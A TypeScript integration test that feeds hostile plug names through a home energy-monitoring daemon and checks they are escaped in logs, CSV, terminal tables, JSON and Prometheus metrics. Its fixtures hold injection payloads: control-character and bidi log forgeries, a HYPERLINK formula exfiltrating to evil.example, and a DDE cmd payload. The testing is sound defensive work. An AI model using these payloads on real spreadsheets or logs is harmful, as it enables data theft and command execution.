/**
 * Names from devices are untrusted (issue 9, item 6): hostile aliases set on simulated plugs
 * (127.33.1.x, port 33001) go through the built daemon (`log.format: journal`, HTTP on
 * 127.33.0.1:33080) and come out escaped or prefixed, never executed, never dropped: in the journal
 * lines, the CSV of `export` and of /api/readings, the Prometheus text (checked by promtool when
 * installed) and the JSON API.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { DaemonProcess, runCliProcess } from './helpers/cli.js';
import { type SimulatorFleet, startSimulators } from './helpers/simulator.js';
import { sleep, waitFor } from './helpers/wait.js';

const PORT = 33001;
const HTTP = 'http://127.33.0.1:33080';

const NUL_PLUG = 'BAD0000000000000000000000000000000000001';
const ESC_PLUG = 'BAD0000000000000000000000000000000000002';
const BIDI_PLUG = 'BAD0000000000000000000000000000000000003';
const STRIP = 'BADBADBAD00000000000000000000000000000';

/** Each would end a journal record, fake a priority, recolour a terminal or reverse the text. */
const PLUG_ALIASES: Readonly<Record<string, string>> = {
  [NUL_PLUG]: 'kettle\u0000<0>fake_emergency',
  [ESC_PLUG]: 'fridge\u001b[31m red\u001b[0m\n<1>fake alert',
  [BIDI_PLUG]: 'lamp\u202Egnp.exe\r<2>x\u0085\u2066\u007f',
};
/** Each would run as a formula in a spreadsheet. */
const OUTLET_ALIASES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1',
  '-1',
  '\t=1+1',
  '\r=2+2',
];
const OUTLETS = OUTLET_ALIASES.map((_, i) => `${STRIP}0${i}`);
const ALL_ALIASES: Readonly<Record<string, string>> = {
  ...PLUG_ALIASES,
  ...Object.fromEntries(OUTLETS.map((id, i) => [id, OUTLET_ALIASES[i] as string])),
};

/** C0, DEL, C1, line/paragraph separators, bidi marks, embeddings, overrides and isolates. */
const UNSAFE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/** RFC 4180 parser: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** What a text cell must read: the alias, with `'` in front when it starts like a formula. */
function expectedCell(alias: string): string {
  return /^[=+\-@\t\r]/.test(alias) ? `'${alias}` : alias;
}

/** Checks an export's CSV: every channel present, text cells prefixed, numeric cells plain numbers. */
function checkCsv(text: string, where: string): void {
  const [header, ...rows] = parseCsv(text);
  assert.deepEqual(header, ['time', 'device_id', 'alias', 'power_w', 'voltage_v', 'current_a', 'total_wh']);
  for (const [id, alias] of Object.entries(ALL_ALIASES)) {
    const mine = rows.filter((r) => r[1] === id);
    assert.ok(mine.length > 0, `${where}: the channel named ${JSON.stringify(alias)} is recorded`);
    for (const r of mine) {
      assert.equal(r[2], expectedCell(alias), `${where}: alias cell of ${id}`);
      for (const cell of r.slice(3, 7)) {
        assert.match(cell, /^(-?\d+(\.\d+)?)?$/, `${where}: numeric cells stay numbers`);
      }
    }
  }
  for (const r of rows) {
    for (const cell of r)
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${where}: no cell starts like a formula`);
  }
}

describe('hostile plug aliases through the built daemon', () => {
  let fleet: SimulatorFleet;
  let daemon: DaemonProcess;
  let dir: string;
  let config: string;
  let stdout = '';

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'kasa-hostile-'));
    fleet = await startSimulators({
      port: PORT,
      devices: [
        {
          model: 'hs110v2',
          address: '127.33.1.1',
          deviceId: NUL_PLUG,
          alias: PLUG_ALIASES[NUL_PLUG] as string,
        },
        {
          model: 'hs110',
          address: '127.33.1.2',
          deviceId: ESC_PLUG,
          alias: PLUG_ALIASES[ESC_PLUG] as string,
        },
        {
          model: 'hs110v2',
          address: '127.33.1.3',
          deviceId: BIDI_PLUG,
          alias: PLUG_ALIASES[BIDI_PLUG] as string,
        },
        {
          model: 'hs300',
          address: '127.33.1.4',
          deviceId: STRIP,
          alias: '-strip',
          outletAliases: OUTLET_ALIASES,
        },
      ],
    });
    config = join(dir, 'config.yaml');
    writeFileSync(
      config,
      `discovery:
  broadcast: 127.255.255.255
  port: ${PORT}
  interval: 2s
  timeout: 300ms
polling:
  interval: 1s
  timeout: 500ms
storage:
  sqlite:
    path: ${join(dir, 'kasa.db')}
writer:
  flush_interval: 100ms
http:
  listen: 127.33.0.1:33080
health:
  min_free_disk_mb: 0
log:
  level: info
  format: journal
`,
    );
    daemon = new DaemonProcess(['-c', config]);
    daemon.child.stdout?.on('data', (d: Buffer) => {
      stdout += d.toString('utf8');
    });
    await waitFor(
      () => daemon.child.exitCode !== null || /HTTP endpoint on/.test(stdout),
      'HTTP endpoint up',
    );
    assert.equal(daemon.child.exitCode, null, daemon.stderr);
    // Every channel stored at least twice.
    for (;;) {
      const r = await fetch(`${HTTP}/api/readings?format=json`);
      const rows = (await r.json()) as { device_id: string }[];
      if (Object.keys(ALL_ALIASES).every((id) => rows.filter((x) => x.device_id === id).length >= 2)) break;
      await sleep(200);
    }
  });

  after(async () => {
    await daemon?.kill();
    await fleet?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  test('journal lines escape control characters and bidi overrides: one record per line, its own priority', () => {
    const lines = stdout.split('\n').filter((l) => l !== '');
    assert.ok(lines.length > 5);
    for (const line of lines) {
      assert.match(line, /^<[0-7]>/, `every line starts with its priority: ${JSON.stringify(line)}`);
      assert.doesNotMatch(line, UNSAFE, `no control or bidi character: ${JSON.stringify(line)}`);
    }
    // The plugs are logged (kept, not dropped), their names visibly escaped, at info level.
    const found = lines.filter((l) => l.startsWith('<6>plug found'));
    const nul = found.find((l) => l.includes(NUL_PLUG));
    assert.ok(nul, 'the plug named with NUL is logged');
    assert.ok(nul.includes('kettle\\u0000<0>fake'), nul);
    const esc = found.find((l) => l.includes(ESC_PLUG));
    assert.ok(esc?.includes('fridge\\u001b[31m red\\u001b[0m\\n<1>fake alert'), esc);
    const bidi = found.find((l) => l.includes(BIDI_PLUG));
    assert.ok(bidi?.includes('lamp\\u202egnp.exe\\r<2>x\\u0085\\u2066\\u007f'), bidi);
    assert.ok(
      !lines.some((l) => /^<[0-2]>/.test(l)),
      'no line claims emergency, alert or critical: nothing in a name can fake a priority',
    );
  });

  test('`export` CSV: formula-like names prefixed with a quote, every channel kept, numbers unchanged', async () => {
    const result = await runCliProcess(['export', '-c', config]);
    assert.equal(result.code, 0, result.stderr);
    checkCsv(result.stdout, 'export');
  });

  test('`energy --format csv` and rollup exports: the same rule', async () => {
    const energy = await runCliProcess(['energy', '-c', config, '--format', 'csv']);
    assert.equal(energy.code, 0, energy.stderr);
    const [energyHeader, ...energyRows] = parseCsv(energy.stdout);
    assert.deepEqual(energyHeader?.slice(0, 4), ['period', 'device_id', 'alias', 'energy_kwh']);
    const rollups = await runCliProcess(['export', '-c', config, '--resolution', 'minute']);
    assert.equal(rollups.code, 0, rollups.stderr);
    const [rollupHeader, ...rollupRows] = parseCsv(rollups.stdout);
    assert.equal(rollupHeader?.[2], 'alias');
    for (const [what, rows] of [
      ['energy', energyRows],
      ['rollups', rollupRows],
    ] as const) {
      for (const [id, alias] of Object.entries(ALL_ALIASES)) {
        const mine = rows.filter((r) => r[1] === id);
        assert.ok(mine.length > 0, `${what}: ${id} is there`);
        for (const r of mine) assert.equal(r[2], expectedCell(alias), `${what}: alias cell of ${id}`);
      }
    }
  });

  test('terminal tables (`energy`, `discover`) show control characters and bidi overrides as escapes', async () => {
    const energy = await runCliProcess(['energy', '-c', config]);
    assert.equal(energy.code, 0, energy.stderr);
    const discover = await runCliProcess(['discover', '-c', config]);
    assert.equal(discover.code, 0, discover.stderr);
    for (const [what, out] of [
      ['energy', energy.stdout],
      ['discover', discover.stdout],
    ] as const) {
      const bad = out.split('\n').find((l) => UNSAFE.test(l) || l.includes('\r'));
      assert.equal(bad, undefined, `${what}: a raw control or bidi character reached the terminal`);
      assert.ok(out.includes('fridge\\u001b[31m red'), `${what}: the ESC plug is listed, escaped`);
    }
  });

  test('/api/readings?format=csv: the same rule', async () => {
    const response = await fetch(`${HTTP}/api/readings?format=csv`);
    assert.equal(response.status, 200);
    checkCsv(await response.text(), '/api/readings');
  });

  test('JSON keeps the names exactly, as valid JSON', async () => {
    const readings = (await (await fetch(`${HTTP}/api/readings`)).json()) as {
      device_id: string;
      alias: string;
    }[];
    for (const [id, alias] of Object.entries(ALL_ALIASES)) {
      assert.ok(
        readings.some((r) => r.device_id === id && r.alias === alias),
        `${id} in /api/readings`,
      );
    }
    const { devices } = (await (await fetch(`${HTTP}/api/devices`)).json()) as {
      devices: { device_id: string; alias: string; channels: { device_id: string; alias: string }[] }[];
    };
    const channels = devices.flatMap((d) => d.channels);
    for (const [id, alias] of Object.entries(ALL_ALIASES)) {
      assert.equal(channels.find((c) => c.device_id === id)?.alias, alias, `${id} in /api/devices`);
    }
  });

  test('/metrics stays valid Prometheus text with every alias label escaped', async () => {
    const text = await (await fetch(`${HTTP}/metrics`)).text();
    const power = text.split('\n').filter((l) => l.startsWith('kasa_power_watts{'));
    assert.equal(power.length, Object.keys(ALL_ALIASES).length, 'one series per channel');
    for (const line of power) {
      assert.match(line, /^kasa_power_watts\{device_id="[^"]+",alias="(?:[^"\\\n]|\\["\\n])*"\} \S+$/, line);
    }
    if (spawnSync('promtool', ['--version']).status === 0) {
      const check = spawnSync('promtool', ['check', 'metrics'], { input: text });
      // promtool exits 0, or 3 when only lint warnings (such as missing help) are found.
      assert.ok(check.status === 0 || check.status === 3, `promtool: ${check.stderr} ${check.stdout}`);
      assert.doesNotMatch(String(check.stderr), /error while linting|text format parsing error/);
    }
  });
});
